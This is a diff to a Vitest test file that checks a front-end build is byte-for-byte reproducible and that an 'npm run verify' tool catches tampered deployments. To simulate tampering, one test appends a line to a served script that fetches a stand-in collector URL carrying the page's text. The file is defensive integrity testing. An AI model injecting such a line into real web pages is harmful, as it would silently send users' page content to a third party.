@@ -1,19 +1,23 @@
 // The front-end build, built for real (a child process running Vite, about 20 s each here, a
-// minute or more under load): two builds of one commit with one pinned key are byte for byte the
-// same, and the manifest each writes tells the truth about its files. These builds are the
-// slowest tests of the suite; this file is where any other test that needs one belongs.
+// minute or more under load), and `npm run verify` against a real intake serving it on a
+// loopback port. Two builds in all: the test's own, and the one verify makes to compare with,
+// which is also the second build of the reproducibility check. These builds are the slowest
+// tests of the suite; any other test that needs one belongs in this file.
 import { readBuildManifest, repositoryRoot, runFrontendBuild } from '@integrity-desk/server';
+import { spawn } from 'node:child_process';
 import { createHash, randomBytes } from 'node:crypto';
-import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { appendFileSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, relative, sep } from 'node:path';
-import { afterAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startIntake, type Harness } from '../../services/intake/src/test-support/harness.ts';
 
 const BUILD_MS = 600_000;
 const root = mkdtempSync(join(tmpdir(), 'integrity-desk-builds-'));
 const pinnedKey = randomBytes(32).toString('base64url');
-
-afterAll(() => rmSync(root, { recursive: true, force: true }));
+const served = join(root, 'served');
+const verifiers = join(root, 'verifiers');
+let intake: Harness;
 
 function filesOf(dir: string): string[] {
   return readdirSync(dir).flatMap((name) => {
@@ -22,26 +26,49 @@ function filesOf(dir: string): string[] {
   });
 }
 
-async function build(name: string): Promise<string> {
-  const outDir = join(root, name);
-  const outcome = await runFrontendBuild({ outDir, pinnedKey });
-  expect(outcome, outcome.tail.join('\n')).toMatchObject({ ok: true });
-  return outDir;
+/** `npm run verify -- <args>` as a person runs it; its exit code and what it printed. */
+function verify(...args: string[]): Promise<{ code: number | null; out: string }> {
+  return new Promise((resolve) => {
+    const child = spawn('npm', ['run', '--silent', 'verify', '--', ...args], {
+      cwd: repositoryRoot,
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let out = '';
+    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
+    child.stderr.on('data', (chunk: Buffer) => (out += chunk.toString()));
+    child.on('close', (code) => resolve({ code, out }));
+  });
 }
+
+beforeAll(async () => {
+  const outcome = await runFrontendBuild({ outDir: served, pinnedKey });
+  expect(outcome, outcome.tail.join('\n')).toMatchObject({ ok: true });
+  // The deployment: a real intake serving that build on a loopback port.
+  intake = await startIntake({ deps: { staticDir: served } });
+}, BUILD_MS);
+
+afterAll(async () => {
+  await intake?.close();
+  rmSync(root, { recursive: true, force: true });
+});
 
 describe('front-end build', () => {
   it(
-    'two builds of one commit with one pinned key are byte-identical, and the manifest says what they hold',
+    'npm run verify builds the same commit with the pinned key and finds every served file the same; the two builds are byte-identical',
     async () => {
-      const first = await build('first');
-      const second = await build('second');
-      const a = readBuildManifest(first)!;
-      const b = readBuildManifest(second)!;
+      const result = await verify(intake.url, '--keep-build', verifiers);
+      expect(result.out).toContain(`pinned key:   ${pinnedKey}`);
+      expect(result.out).toMatch(/OK: all \d+ files the deployment serves are byte for byte/);
+      expect(result.out).toMatch(/desk only {2}desk\.html/);
+      expect(result.code, result.out).toBe(0);
+
+      const a = readBuildManifest(served)!;
+      const b = readBuildManifest(verifiers)!;
       expect(a.pinnedDeploymentKey).toBe(pinnedKey);
       expect(a.commit).toMatch(/^[0-9a-f]{40}$|^unknown$/);
       expect(b).toEqual(a);
       // Every file on disk is in the manifest with its real hash (the manifest itself aside).
-      for (const dir of [first, second]) {
+      for (const dir of [served, verifiers]) {
         const onDisk = filesOf(dir)
           .map((file) => relative(dir, file).split(sep).join('/'))
           .filter((path) => path !== 'manifest.json')
@@ -53,14 +80,31 @@ describe('front-end build', () => {
           // Nothing in it names where it was built: another checkout must get the same bytes.
           expect(bytes.includes(repositoryRoot), path).toBe(false);
           expect(bytes.includes(root), path).toBe(false);
+          // A pinned build carries no "not pinned" banner on any page.
+          if (path.endsWith('.html')) expect(bytes.includes('unpinned-banner'), path).toBe(false);
         }
       }
       // The key is in the code the browser runs, not only in the manifest.
       const withKey = Object.keys(a.files).filter(
-        (path) => path.endsWith('.js') && readFileSync(join(first, path)).includes(pinnedKey),
+        (path) => path.endsWith('.js') && readFileSync(join(served, path)).includes(pinnedKey),
       );
       expect(withKey.length).toBeGreaterThan(0);
     },
-    2 * BUILD_MS,
+    BUILD_MS,
   );
+
+  it('npm run verify names a file the deployment altered and exits non-zero', async () => {
+    const manifest = readBuildManifest(served)!;
+    const altered = Object.keys(manifest.files).find(
+      (p) => p.startsWith('_app/immutable/') && p.endsWith('.js'),
+    )!;
+    appendFileSync(
+      join(served, altered),
+      '\n;fetch("https://collector.invalid/"+document.body.innerText)',
+    );
+    const result = await verify(intake.url, '--use-build', verifiers);
+    expect(result.out).toContain(`DIFFERENT  ${altered}`);
+    expect(result.out).toContain('NOT THE SAME: 1 file(s) differ and 0 are missing');
+    expect(result.code, result.out).toBe(1);
+  }, 120_000);
 });
